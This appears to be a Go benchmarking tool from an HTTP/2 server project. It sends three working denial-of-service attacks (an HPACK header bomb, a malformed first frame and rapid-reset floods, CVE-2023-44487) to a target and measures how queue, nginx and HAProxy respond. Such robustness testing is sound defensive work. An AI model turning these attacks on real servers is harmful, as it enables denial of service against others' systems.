// Command hostile sends one HTTP/2 attack to a server over h2c with prior
// knowledge, and reports what the server did about it: how long the
// connection stayed open, what the attack sent in that time, and the
// GOAWAY it got, if any. bench/hostile.sh runs it against queue, nginx and
// HAProxy and reads each server's CPU around it.
//
//	hostile -target 127.0.0.1:8012 -attack hpack-bomb
//	hostile -target 127.0.0.1:8012 -attack bad-first-frame
//	hostile -target 127.0.0.1:8012 -attack rapid-reset
//
// The attacks:
//
//   - hpack-bomb: one request indexes a field of -field bytes in the
//     server's HPACK table; then every header block references it -refs
//     times (one byte each), so that a block of a few dozen bytes decodes to
//     -refs times -field bytes, over any server's header list limit. Blocks
//     are sent as fast as the connection takes them.
//   - bad-first-frame: after the preface, a frame header that is not
//     SETTINGS (a HEADERS of 1000 bytes) and part of its payload, never the
//     rest: the first frame must be SETTINGS (RFC 9113 section 3.4), and
//     the frame header alone shows that it is not.
//   - rapid-reset: -streams requests (GET /), each reset with RST_STREAM
//     CANCEL right after its HEADERS (CVE-2023-44487), 50 pairs a write,
//     each write followed by a PING whose acknowledgement is waited for,
//     so that the server reads them all rather than the attacker filling
//     the socket: what each stream costs the server and its upstream. A
//     connection the server ends is replaced by a new one, as an attacker
//     would, until -max-blocks streams were sent or -timeout passed.
//
// With -keep-sending the attack goes on writing (more blocks, or garbage
// after the bad frame) after the server's GOAWAY, until the server closes
// the connection or -timeout passes: a server must close the connection
// after a connection error whatever the peer keeps sending (RFC 9113
// section 5.4.1). The run is bounded by -timeout and -max-blocks.
package main

import (
	"bufio"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/queue-dev/queue/internal/hpackw"
)

func main() {
	target := flag.String("target", "127.0.0.1:8012", "host:port to attack (h2c with prior knowledge)")
	attack := flag.String("attack", "hpack-bomb", "hpack-bomb, bad-first-frame or rapid-reset")
	field := flag.Int("field", 4000, "hpack-bomb: bytes of the indexed field's value")
	refs := flag.Int("refs", 20, "hpack-bomb: references to it in each header block")
	maxBlocks := flag.Int("max-blocks", 200000, "hpack-bomb: header blocks sent at most; rapid-reset: streams")
	keep := flag.Bool("keep-sending", true, "go on writing after the server's GOAWAY")
	timeout := flag.Duration("timeout", 10*time.Second, "bound on the whole run")
	flag.Parse()
	var res result
	var err error
	if *attack == "rapid-reset" {
		res, err = rapidResets(*target, *maxBlocks, *timeout)
	} else {
		res, err = run(*target, *attack, *field, *refs, *maxBlocks, *keep, *timeout)
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "hostile:", err)
		os.Exit(1)
	}
	fmt.Println(res)
}

// result is what one attack saw.
type result struct {
	attack   string
	open     time.Duration // until the server closed the connection, or the timeout
	closed   bool          // the server closed it (end of file or reset) before the timeout
	goAway   string        // the GOAWAY's error code, or ""
	goAwayAt time.Duration
	sent     int64 // bytes written
	blocks   int64 // hpack-bomb: header blocks written; rapid-reset: streams opened and reset
	conns    int   // rapid-reset: connections used
	frames   map[string]int
}

func (r result) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "attack=%s closed=%v open_ms=%.1f goaway=%q goaway_ms=%.1f sent_bytes=%d",
		r.attack, r.closed, ms(r.open), r.goAway, ms(r.goAwayAt), r.sent)
	switch r.attack {
	case "hpack-bomb":
		fmt.Fprintf(&b, " blocks=%d", r.blocks)
	case "rapid-reset":
		fmt.Fprintf(&b, " streams=%d conns=%d", r.blocks, r.conns)
	}
	for _, t := range []string{"HEADERS", "RST_STREAM", "DATA"} {
		if n := r.frames[t]; n > 0 {
			fmt.Fprintf(&b, " %s=%d", strings.ToLower(t), n)
		}
	}
	return b.String()
}

func ms(d time.Duration) float64 { return float64(d) / float64(time.Millisecond) }

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// Frame types and flags (RFC 9113 section 6).
const (
	typeData     = 0x0
	typeHeaders  = 0x1
	typeRST      = 0x3
	typeSettings = 0x4
	typePing     = 0x6
	typeGoAway   = 0x7
	flagAck      = 0x1 // SETTINGS and PING
	flagEnd      = 0x1 // END_STREAM
	flagHeaders  = 0x4 // END_HEADERS
)

var typeNames = map[byte]string{typeData: "DATA", typeHeaders: "HEADERS", typeRST: "RST_STREAM", typeGoAway: "GOAWAY"}

func frame(b []byte, typ, flags byte, stream uint32, payload []byte) []byte {
	b = hpackw.AppendFrameHeader(b, len(payload), typ, flags, stream)
	return append(b, payload...)
}

func run(target, attack string, field, refs, maxBlocks int, keep bool, timeout time.Duration) (result, error) {
	res := result{attack: attack, frames: map[string]int{}}
	nc, err := net.DialTimeout("tcp", target, timeout)
	if err != nil {
		return res, err
	}
	defer nc.Close()
	start := time.Now()
	nc.SetDeadline(start.Add(timeout))

	// The reader notes what the server sends, until it closes.
	var (
		mu      sync.Mutex
		stopped atomic.Bool
		done    = make(chan struct{})
		pongs   = make(chan struct{}, 1)
	)
	go func() {
		defer close(done)
		br := bufio.NewReader(nc)
		var h [9]byte
		for {
			if _, err := io.ReadFull(br, h[:]); err != nil {
				mu.Lock()
				res.open = time.Since(start)
				var ne net.Error
				res.closed = !(errors.As(err, &ne) && ne.Timeout())
				mu.Unlock()
				stopped.Store(true)
				return
			}
			n := int(h[0])<<16 | int(h[1])<<8 | int(h[2])
			p := make([]byte, n)
			if _, err := io.ReadFull(br, p); err != nil {
				continue // the next read reports the end
			}
			mu.Lock()
			if name := typeNames[h[3]]; name != "" {
				res.frames[name]++
			}
			if h[3] == typePing && h[4]&flagAck != 0 {
				select {
				case pongs <- struct{}{}:
				default:
				}
			}
			if h[3] == typeGoAway && len(p) >= 8 && res.goAway == "" {
				res.goAway = errCode(binary.BigEndian.Uint32(p[4:8]))
				res.goAwayAt = time.Since(start)
			}
			mu.Unlock()
		}
	}()
	write := func(b []byte) bool {
		n, err := nc.Write(b)
		res.sent += int64(n)
		return err == nil
	}

	switch attack {
	case "hpack-bomb":
		hpackBomb(&res, write, &stopped, &mu, field, refs, maxBlocks, keep)
	case "rapid-reset":
		rapidReset(&res, write, done, pongs, maxBlocks)
		// Done: the attacker's end of the stream; the server then closes.
		nc.(*net.TCPConn).CloseWrite()
	case "bad-first-frame":
		b := []byte(preface)
		b = append(b, 0, 0x03, 0xe8, typeHeaders, flagHeaders, 0, 0, 0, 1) // 1000 bytes announced
		b = append(b, 0x82, 0x86, 0x84)                                    // and 3 of them
		write(b)
		garbage := make([]byte, 4096)
		for keep && !stopped.Load() {
			mu.Lock()
			got := res.goAway != ""
			mu.Unlock()
			if got && !write(garbage) {
				break
			}
			if !got {
				time.Sleep(time.Millisecond) // until the GOAWAY, the attack is to wait
			}
		}
	default:
		return res, fmt.Errorf("unknown attack %q", attack)
	}
	<-done
	return res, nil
}

// hpackBomb indexes a large field once, then sends header blocks that
// reference it refs times each, until the server closes the connection,
// stops reading, or maxBlocks were sent.
func hpackBomb(res *result, write func([]byte) bool, stopped *atomic.Bool, mu *sync.Mutex, field, refs, maxBlocks int, keep bool) {
	b := []byte(preface)
	b = frame(b, typeSettings, 0, 0, nil)
	// Stream 1: GET / with "x-bomb: <field bytes>" indexed (literal with
	// incremental indexing, new name: RFC 7541 section 6.2.1). The value's
	// length is an integer with a 7-bit prefix.
	block := []byte{0x82, 0x86, 0x84, 0x41, 0x01, 'x'} // :method GET, :scheme http, :path /, :authority x
	block = append(block, 0x40, 6)
	block = append(block, "x-bomb"...)
	block = hpackw.AppendInt(block, 0, 7, uint64(field))
	block = append(block, strings.Repeat("a", field)...)
	b = frame(b, typeHeaders, flagHeaders|flagEnd, 1, block)
	if !write(b) {
		return
	}
	// Then blocks of the pseudo-fields and refs references to index 62,
	// the field just added (the static table has 61 entries).
	bomb := []byte{0x82, 0x86, 0x84, 0x41, 0x01, 'x'}
	for range refs {
		bomb = append(bomb, 0x80|62)
	}
	const batch = 64
	var out []byte
	for stream := uint32(3); res.blocks < int64(maxBlocks) && !stopped.Load(); {
		if !keep {
			mu.Lock()
			got := res.goAway != ""
			mu.Unlock()
			if got {
				return
			}
		}
		out = out[:0]
		for range batch {
			out = frame(out, typeHeaders, flagHeaders|flagEnd, stream, bomb)
			stream += 2
			if stream > 1<<31-1 {
				return
			}
		}
		if !write(out) {
			return
		}
		res.blocks += batch
	}
}

// rapidResets runs rapid-reset on one connection after another until n
// streams were sent or timeout passed; the result is the last
// connection's, with the streams and connections of all.
func rapidResets(target string, n int, timeout time.Duration) (result, error) {
	deadline := time.Now().Add(timeout)
	var streams int64
	var conns int
	for {
		res, err := run(target, "rapid-reset", 0, 0, n-int(streams), false, time.Until(deadline))
		if err != nil {
			return res, err
		}
		streams += res.blocks
		conns++
		if streams >= int64(n) || time.Now().After(deadline) || res.blocks == 0 {
			res.blocks, res.conns = streams, conns
			return res, nil
		}
	}
}

// rapidReset opens and resets streams, 50 a write, each write followed
// by a PING whose acknowledgement it waits for, until n streams were sent
// or the server closed the connection (done).
func rapidReset(res *result, write func([]byte) bool, done <-chan struct{}, pongs <-chan struct{}, n int) {
	b := []byte(preface)
	b = frame(b, typeSettings, 0, 0, nil)
	if !write(b) {
		return
	}
	block := []byte{0x82, 0x86, 0x84, 0x41, 0x01, 'x'} // :method GET, :scheme http, :path /, :authority x
	cancel := binary.BigEndian.AppendUint32(nil, 0x8)  // CANCEL
	var ping [8]byte
	const batch = 50
	for stream := uint32(1); res.blocks < int64(n); {
		b = b[:0]
		for range batch {
			b = frame(b, typeHeaders, flagHeaders|flagEnd, stream, block)
			b = frame(b, typeRST, 0, stream, cancel)
			stream += 2
		}
		b = frame(b, typePing, 0, 0, ping[:])
		if !write(b) {
			return
		}
		res.blocks += batch
		select {
		case <-pongs:
		case <-done:
			return
		}
	}
}

func errCode(c uint32) string {
	names := []string{"NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
		"STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR",
		"ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"}
	if int(c) < len(names) {
		return names[c]
	}
	return fmt.Sprintf("0x%x", c)
}
